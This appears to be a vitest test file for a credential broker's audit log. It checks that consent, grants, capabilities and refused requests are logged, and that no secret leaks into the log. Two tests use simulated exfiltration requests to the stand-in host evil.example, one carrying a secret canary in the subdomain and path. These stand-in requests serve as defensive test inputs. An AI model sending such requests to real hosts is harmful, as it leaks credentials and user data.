import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { makeAuthorityReader } from '../../review/authority-at.ts';
import { startAttackingServer } from '../fixtures/attacking-server/start.ts';
import { attackingServerBefore } from '../fixtures/attacking-server/started-before.ts';
import { answering, type TestExtension } from '../fixtures/broker-in-folder.ts';
import { confirmAsShown } from '../fixtures/confirm-as-shown.ts';
import {
  type ConnectionIdOf,
  codeOf,
  newCanary,
  requestOf,
  type WatchedBroker,
  watchedBroker,
} from '../fixtures/watched-broker.ts';

const server = attackingServerBefore();

let w: WatchedBroker;
let canary: string;
let extension: TestExtension;
let connectionId: ConnectionIdOf;
beforeEach(async () => {
  canary = newCanary();
  w = await watchedBroker(canary);
  w.inner.answer = answering('always');
  extension = w.attachNamed();
  connectionId = (await w.connect('bearer', server.url, { displayName: 'Registry of mine' })).id;
});
afterEach(async () => {
  expect(await w.closeAndLook()).toEqual([]);
});

const access = { methods: ['GET' as const], paths: ['/a/**'], mcpTools: [] };
const line = async (kind: Parameters<WatchedBroker['audit']>[0]) => (await w.audit(kind))[0];

describe('D13: the log alone says who could do what, and what was tried', () => {
  it('the lines of a question, its answer, the grant and the handle say what was asked and given, and where it may go', async () => {
    await extension.connections.request({ ...requestOf('bearer'), access });
    const where = { connectionName: 'Registry of mine', origins: [server.url] };
    expect(await line({ kind: 'consent.asked' })).toMatchObject({ asked: access });
    expect(await line({ kind: 'consent.answered' })).toMatchObject({
      asked: access,
      given: access,
      ...where,
    });
    expect(await line({ kind: 'grant.created' })).toMatchObject({ given: access, ...where });
    expect(await line({ kind: 'capability.issued' })).toMatchObject({ given: access, ...where });
  });

  it('the line of a denied or undeclared request says what was asked', async () => {
    w.inner.answer = ({ nonce }) => ({ nonce, decision: 'deny' });
    await codeOf(extension.connections.request({ ...requestOf('bearer'), access }));
    expect(await line({ kind: 'consent.answered' })).toMatchObject({ outcome: 'deny', asked: access });
    const callbacks = { ...access, mcpCallbacks: ['roots' as const] };
    expect(await codeOf(extension.connections.request({ ...requestOf('bearer'), access: callbacks }))).toBe(
      'not-declared',
    );
    expect(await line({ kind: 'request.refused' })).toMatchObject({ asked: callbacks });
  });

  it('the line of a refused use names host and path, without user, password and query', async () => {
    const client = extension.connections.use(
      await extension.connections.request({ ...requestOf('bearer'), access }),
    );
    for (const target of ['/b?q=1', 'https://me:word@evil.example/steal?q=1', '/a/../b'])
      expect(await codeOf(client.fetch(target))).not.toBe('no error');
    const refused = await w.audit({ kind: 'use.refused', limit: 10 });
    expect(refused.map(({ method, origin, path }) => [method, origin, path]).reverse()).toEqual([
      ['GET', undefined, '/b'],
      ['GET', 'https://evil.example', '/steal'],
      ['GET', undefined, '/a/../b'],
    ]);
  });

  it('no line of a use holds its secret, in an address that was allowed or refused', async () => {
    const client = extension.connections.use(
      await extension.connections.request({ ...requestOf('bearer'), access }),
    );
    await client.fetch(`/a/${canary}`);
    for (const target of [`https://${canary}.evil.example/${canary}`, `/a/${canary}/../b`])
      expect(await codeOf(client.fetch(target))).not.toBe('no error');
    expect(await codeOf(client.fetch(`/a/${canary}`, { method: 'DELETE' }))).not.toBe('no error');
    const lines = await w.audit({ limit: 10 });
    expect(lines.filter(({ kind }) => kind === 'use.refused')).toHaveLength(3);
    expect(JSON.stringify(lines)).not.toContain(canary);
  });

  it('the line of a derived handle names its parent and its narrower limits', async () => {
    const client = extension.connections.use(
      await extension.connections.request({ ...requestOf('bearer'), access }),
    );
    await client.attenuate({ paths: ['/a/b'], maxUses: 2 });
    expect(await line({ kind: 'capability.attenuated' })).toMatchObject({
      parent: (await line({ kind: 'capability.issued' }))?.capabilityId,
      given: { ...access, paths: ['/a/b'], maxUses: 2 },
    });
  });

  it('the log holds a digest of limits that an extension makes long again and again', async () => {
    const client = extension.connections.use(await extension.connections.request(requestOf('bearer')));
    const paths = Array.from({ length: 64 }, (_, at) => `/${at}/${'x'.repeat(200)}`);
    await client.attenuate({ paths });
    const made = await line({ kind: 'capability.attenuated' });
    expect(made?.given).toBeUndefined();
    expect(made?.tooLong).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.stringify(made).length).toBeLessThan(1_000);
  });

  it('the line of a confirmed grant names its new hosts, and authority is rebuilt with them', async () => {
    const elsewhere = await startAttackingServer();
    await extension.connections.request({ ...requestOf('bearer'), access });
    const { updatedAt } = await w.settings.getConnection({ connectionId });
    await w.settings.updateConnection({ connectionId, updatedAt, fields: { url: elsewhere.url } });
    const [grant] = await w.settings.listGrants({});
    if (grant === undefined) throw new Error('there is a grant');
    await confirmAsShown(w.settings, grant.id);
    const reader = makeAuthorityReader();
    for (const entry of (await w.audit()).toReversed()) reader.read(entry);
    expect(reader.now.grants.get(grant.id)).toMatchObject({ state: 'active', origins: [elsewhere.url] });
    await elsewhere.stop();
  });

  it('the log keeps the name of a connection that no longer exists', async () => {
    await w.settings.deleteConnection({ connectionId });
    for (const kind of ['connection.created', 'connection.deleted'] as const)
      expect(await line({ kind })).toMatchObject({ connectionName: 'Registry of mine' });
  });
});
